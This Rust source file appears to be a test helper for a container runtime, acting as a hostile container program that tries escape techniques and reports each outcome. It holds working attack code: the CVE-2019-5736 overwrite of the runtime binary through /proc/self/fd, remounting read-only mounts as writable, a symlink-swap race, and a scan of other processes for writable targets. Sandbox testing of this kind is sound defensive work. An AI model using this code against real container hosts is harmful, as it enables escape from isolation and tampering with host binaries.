// A hostile container's program: makes one attempt for each argument and prints one line of outcome for each. Compiled
// by the test, static, for an empty root; it uses no crate.
//
// An attempt is `verb|word|word…`, an outcome `attempt => ok WORDS` or `attempt => errno N`.

use std::ffi::{CString, c_char, c_int, c_long};
use std::fs::{self, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::Path;
use std::time::Duration;

unsafe extern "C" {
    fn syscall(number: c_long, ...) -> c_long;
    fn mknod(path: *const c_char, mode: u32, device: u64) -> c_int;
    fn mount(source: *const c_char, target: *const c_char, kind: *const c_char, flags: u64, data: *const c_char) -> c_int;
    fn umount2(target: *const c_char, flags: c_int) -> c_int;
    fn unshare(flags: c_int) -> c_int;
    fn setns(fd: c_int, kind: c_int) -> c_int;
    fn fork() -> c_int;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
    fn _exit(code: c_int) -> !;
}

const O_PATH: i32 = 0o10000000;
const O_NONBLOCK: i32 = 0o4000;
const MS_RDONLY: u64 = 1;
const MS_REMOUNT: u64 = 32;
const MS_BIND: u64 = 4096;
const MNT_DETACH: c_int = 2;
const NEW_USER_AND_MOUNT: c_int = 0x1000_0000 | 0x2_0000;
const SYS_CLONE: c_long = 56;
const SYS_CLONE3: c_long = 435;
const SYS_OPEN_TREE: c_long = 428;
const SYS_MOUNT_SETATTR: c_long = 442;
const SIGCHLD: u64 = 17;
/// The most rounds of a hunt through all processes: the test ends it sooner by a file.
const MOST_ROUNDS: usize = 2_000_000;

fn c(text: &str) -> CString {
    CString::new(text).unwrap()
}

fn check(result: c_long) -> io::Result<c_long> {
    if result < 0 { Err(io::Error::last_os_error()) } else { Ok(result) }
}

fn words(text: &[u8]) -> String {
    let text: String = String::from_utf8_lossy(text).chars().take(200).collect();
    text.replace('\n', "\\n")
}

fn read(path: &str) -> io::Result<String> {
    let mut file = OpenOptions::new().read(true).custom_flags(O_NONBLOCK).open(path)?;
    let mut bytes = [0; 256];
    let count = file.read(&mut bytes)?;
    Ok(words(&bytes[..count]))
}

fn write(path: &str, text: &str) -> io::Result<String> {
    let mut file = OpenOptions::new().write(true).custom_flags(O_NONBLOCK).open(path)?;
    file.write_all(text.as_bytes())?;
    Ok("written".to_owned())
}

fn list(path: &str) -> io::Result<String> {
    let mut names: Vec<String> = fs::read_dir(path)?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    names.sort();
    Ok(names.join(","))
}

/// Lists the numbers of this process's descriptors, without the one used for listing.
fn descriptors() -> io::Result<String> {
    let dir = fs::read_dir("/proc/self/fd")?;
    let names: Vec<String> = dir.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    let mut numbers: Vec<u32> = names.iter().filter_map(|name| name.parse().ok()).collect();
    numbers.retain(|number| fs::read_link(format!("/proc/self/fd/{number}")).is_ok_and(|link| !link.ends_with("fd")));
    numbers.sort_unstable();
    Ok(format!("{numbers:?}"))
}

fn make_node(path: &str, major: u64, minor: u64) -> io::Result<String> {
    let device = (major & 0xfff) << 8 | (minor & 0xff) | (minor & !0xff) << 12;
    check(unsafe { mknod(c(path).as_ptr(), 0o60600, device) }.into()).map(|_| "made".to_owned())
}

fn mount_new(kind: &str, target: &str, data: &str) -> io::Result<String> {
    let (kind, target, data) = (c(kind), c(target), c(data));
    check(unsafe { mount(kind.as_ptr(), target.as_ptr(), kind.as_ptr(), 0, data.as_ptr()) }.into()).map(|_| "mounted".to_owned())
}

fn bind(source: &str, target: &str) -> io::Result<String> {
    let (source, target) = (c(source), c(target));
    let none = std::ptr::null();
    check(unsafe { mount(source.as_ptr(), target.as_ptr(), none, MS_BIND, none) }.into()).map(|_| "bound".to_owned())
}

fn remount(target: &str, flags: u64) -> io::Result<String> {
    let none = std::ptr::null();
    let target = c(target);
    check(unsafe { mount(none, target.as_ptr(), none, flags, none) }.into()).map(|_| "remounted".to_owned())
}

/// Does the same as `remount`, by the newer call.
fn set_attributes(target: &str) -> io::Result<String> {
    // attr_set, attr_clr (MOUNT_ATTR_RDONLY), propagation, userns_fd
    let attributes: [u64; 4] = [0, 1, 0, 0];
    let target = c(target);
    check(unsafe { syscall(SYS_MOUNT_SETATTR, -100, target.as_ptr(), 0, attributes.as_ptr(), 32usize) }).map(|_| "set".to_owned())
}

fn open_tree(target: &str) -> io::Result<String> {
    let target = c(target);
    check(unsafe { syscall(SYS_OPEN_TREE, -100, target.as_ptr(), 1) }).map(|_| "copied".to_owned())
}

fn unmount(target: &str) -> io::Result<String> {
    check(unsafe { umount2(c(target).as_ptr(), MNT_DETACH) }.into()).map(|_| "unmounted".to_owned())
}

fn enter(path: &str) -> io::Result<String> {
    let file = fs::File::open(path)?;
    check(unsafe { setns(file.as_raw_fd(), 0) }.into()).map(|_| "entered".to_owned())
}

/// Clones a child in both ways; each child ends at once.
fn clone(flags: u64) -> io::Result<String> {
    let zero = 0u64;
    match check(unsafe { syscall(SYS_CLONE, flags | SIGCHLD, zero, zero, zero, zero) })? {
        0 => unsafe { _exit(0) },
        pid => reap(pid as c_int),
    }
}

fn clone3(flags: u64) -> io::Result<String> {
    let args: [u64; 11] = [flags, 0, 0, 0, SIGCHLD, 0, 0, 0, 0, 0, 0];
    match check(unsafe { syscall(SYS_CLONE3, args.as_ptr(), 88usize) })? {
        0 => unsafe { _exit(0) },
        pid => reap(pid as c_int),
    }
}

fn reap(pid: c_int) -> io::Result<String> {
    let mut status = 0;
    check(unsafe { waitpid(pid, &mut status, 0) }.into()).map(|_| "cloned".to_owned())
}

/// Tries to make the mount that a descriptor names writable, or a copy of it, as far as this process has the right;
/// then writes.
fn unseal(number: c_int) -> io::Result<String> {
    const AT_EMPTY_PATH: c_int = 0x1000;
    const OPEN_TREE_CLONE: c_int = 1;
    let attributes: [u64; 4] = [0, 1, 0, 0];
    let set = |fd: c_int| check(unsafe { syscall(SYS_MOUNT_SETATTR, fd, c"".as_ptr(), AT_EMPTY_PATH, attributes.as_ptr(), 32usize) });
    let report = |what: &str, result: io::Result<c_long>| {
        println!("{what} => {}", outcome(&result.map(|_| "done".to_owned())));
    };
    let copy = check(unsafe { syscall(SYS_OPEN_TREE, number, c"".as_ptr(), AT_EMPTY_PATH | OPEN_TREE_CLONE) });
    let copied = *copy.as_ref().unwrap_or(&-1) as c_int;
    report("copy the mount", copy);
    report("make the copy writable", set(copied));
    report("make the mount writable", set(number));
    let open = |fd: c_int| OpenOptions::new().write(true).open(format!("/proc/self/fd/{fd}"));
    let mut file = open(copied).or_else(|_| open(number))?;
    file.write_all(b"#!/overwritten\n").map(|()| "written".to_owned())
}

/// Keeps the file that this descriptor names, and opens it again for writing: the second half of CVE-2019-5736.
/// `ETXTBSY` means that the file is being executed, so it waits for the end of that.
fn overwrite(number: &str, until: &str) -> io::Result<String> {
    println!("holding {}", fs::read_link(format!("/proc/self/fd/{number}"))?.display());
    io::stdout().flush()?;
    let path = format!("/proc/self/fd/{number}");
    let mut last = io::Error::other("no attempt");
    for _ in 0..MOST_ROUNDS {
        let is_last = Path::new(until).exists();
        match OpenOptions::new().write(true).open(&path) {
            Ok(mut file) => return file.write_all(b"#!/overwritten\n").map(|()| "written".to_owned()),
            Err(error) if error.raw_os_error() == Some(26) => last = error,
            Err(error) => return unseal(number.parse().unwrap()).map_err(|_| error),
        }
        if is_last {
            break;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Err(last)
}

/// Looks at every other process until the file `until` exists: can its program, its root or its descriptors be named,
/// and if so, be opened for writing?
fn hunt(until: &str) -> io::Result<String> {
    let own = (std::process::id(), fs::metadata("/")?);
    let own_exe = fs::metadata("/proc/self/exe")?;
    let (mut rounds, mut seen, mut refused, mut prey) = (0u64, std::collections::BTreeSet::new(), 0u64, std::collections::BTreeSet::new());
    println!("hunting");
    io::stdout().flush()?;
    while !Path::new(until).exists() && rounds < MOST_ROUNDS as u64 {
        rounds += 1;
        for entry in fs::read_dir("/proc")?.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let Ok(pid) = name.parse::<u32>() else { continue };
            if pid == own.0 || pid == 1 {
                continue;
            }
            seen.insert(pid);
            for place in ["exe", "root", "cwd"] {
                let path = format!("/proc/{pid}/{place}");
                let held = match OpenOptions::new().read(true).custom_flags(O_PATH).open(&path) {
                    Ok(held) => held,
                    Err(_) => {
                        refused += 1;
                        continue;
                    }
                };
                let Ok(metadata) = held.metadata() else { continue };
                let is_own = (metadata.dev() == own.1.dev() && place != "exe") || (metadata.dev(), metadata.ino()) == (own_exe.dev(), own_exe.ino());
                let again = format!("/proc/self/fd/{}", held.as_raw_fd());
                let is_writable = place == "exe" && OpenOptions::new().append(true).open(&again).is_ok();
                if !is_own || is_writable {
                    prey.insert(format!("{place} {} writable {is_writable}", fs::read_link(&again).map(|link| link.display().to_string()).unwrap_or_default()));
                }
            }
            if let Ok(fds) = fs::read_dir(format!("/proc/{pid}/fd")) {
                for fd in fds.flatten() {
                    // These are the files of its own descriptors. A socket would be init's to the launcher.
                    let is_own = |link: &Path| ["/dev/null", "/proc"].iter().any(|own| link.starts_with(own)) || link.to_string_lossy().starts_with("pipe:");
                    if let Ok(link) = fs::read_link(fd.path()) && !is_own(&link) {
                        prey.insert(format!("fd {}", link.display()));
                    }
                }
            }
        }
    }
    Ok(format!("rounds {} seen {} refused {refused} prey {prey:?}", rounds, seen.len()))
}

/// Swaps a name between a directory and a symlink until the file `until` exists.
fn swap(name: &str, link: &str, until: &str) -> io::Result<String> {
    const RENAME_EXCHANGE: u32 = 2;
    let spare = format!("{name}.spare");
    std::os::unix::fs::symlink(link, &spare)?;
    let (one, other) = (c(name), c(&spare));
    println!("swapping");
    io::stdout().flush()?;
    let mut rounds = 0u64;
    while !Path::new(until).exists() && rounds < MOST_ROUNDS as u64 * 100 {
        for _ in 0..64 {
            check(unsafe { syscall(316, -100, one.as_ptr(), -100, other.as_ptr(), RENAME_EXCHANGE) })?;
            rounds += 1;
        }
    }
    Ok(format!("rounds {rounds}"))
}

/// Makes an attempt in a new user and mount namespace, where this process has every capability.
fn in_user_namespace(words: &[&str]) -> io::Result<String> {
    let (mut near, far) = io::pipe()?;
    match check(unsafe { fork() }.into())? {
        0 => {
            let done = check(unsafe { unshare(NEW_USER_AND_MOUNT) }.into()).and_then(|_| attempt(words));
            let mut far = far;
            let _reader_knows = write!(far, "{}", outcome(&done));
            unsafe { _exit(0) }
        }
        pid => {
            drop(far);
            let mut text = String::new();
            near.read_to_string(&mut text)?;
            reap(pid as c_int)?;
            match text.strip_prefix("errno ").and_then(|number| number.parse().ok()) {
                Some(number) => Err(io::Error::from_raw_os_error(number)),
                None => Ok(text),
            }
        }
    }
}

fn attempt(words: &[&str]) -> io::Result<String> {
    let number = |text: &str| text.parse::<u64>().unwrap();
    match words {
        ["read", path] => read(path),
        ["write", path, text] => write(path, text),
        ["create", path] => fs::write(path, "created").map(|()| "created".to_owned()),
        ["list", path] => list(path),
        ["link", path] => fs::read_link(path).map(|link| link.display().to_string()),
        ["kind", path] => fs::metadata(path).map(|metadata| format!("{:o} {:x}", metadata.mode(), metadata.rdev())),
        ["cwd"] => std::env::current_dir().map(|dir| dir.display().to_string()),
        ["env", name] => Ok(std::env::var(name).unwrap_or_default()),
        ["descriptors"] => descriptors(),
        ["chmod", path, mode] => fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(number(mode) as u32)).map(|()| "changed".to_owned()),
        ["chmod-fd", fd, mode] => {
            let file = fs::File::from(unsafe { OwnedFd::from_raw_fd(number(fd) as i32) });
            file.set_permissions(std::os::unix::fs::PermissionsExt::from_mode(number(mode) as u32)).map(|()| "changed".to_owned())
        }
        ["node", path, major, minor] => make_node(path, number(major), number(minor)),
        ["mount", kind, target, data] => mount_new(kind, target, data),
        ["bind", source, target] => bind(source, target),
        ["remount", target] => remount(target, MS_REMOUNT | MS_BIND),
        ["remount-read-only", target] => remount(target, MS_REMOUNT | MS_BIND | MS_RDONLY),
        ["set-attributes", target] => set_attributes(target),
        ["open-tree", target] => open_tree(target),
        ["unmount", target] => unmount(target),
        ["setns", path] => enter(path),
        ["unshare", flags] => in_child(number(flags)),
        ["clone", flags] => clone(number(flags)),
        ["clone3", flags] => clone3(number(flags)),
        ["overwrite", number, until] => overwrite(number, until),
        ["hunt", until] => hunt(until),
        ["swap", name, link, until] => swap(name, link, until),
        ["say", text] => Ok((*text).to_owned()),
        ["in-user-namespace", rest @ ..] => in_user_namespace(rest),
        other => panic!("no such attempt: {other:?}"),
    }
}

/// Makes an attempt in a child process, so that this one is not changed.
fn in_child(flags: u64) -> io::Result<String> {
    match check(unsafe { fork() }.into())? {
        0 => {
            let result = check(unsafe { unshare(flags as c_int) }.into());
            unsafe { _exit(result.err().and_then(|error| error.raw_os_error()).unwrap_or(0)) }
        }
        pid => {
            let mut status = 0;
            check(unsafe { waitpid(pid as c_int, &mut status, 0) }.into())?;
            match status >> 8 & 0xff {
                0 => Ok("unshared".to_owned()),
                errno => Err(io::Error::from_raw_os_error(errno)),
            }
        }
    }
}

fn outcome(result: &io::Result<String>) -> String {
    match result {
        Ok(words) => format!("ok {words}"),
        Err(error) => format!("errno {}", error.raw_os_error().unwrap_or(-1)),
    }
}

fn main() {
    for text in std::env::args().skip(1) {
        let parts: Vec<&str> = text.split('|').collect();
        let result = attempt(&parts);
        println!("{text} => {}", outcome(&result));
        io::stdout().flush().unwrap();
    }
}
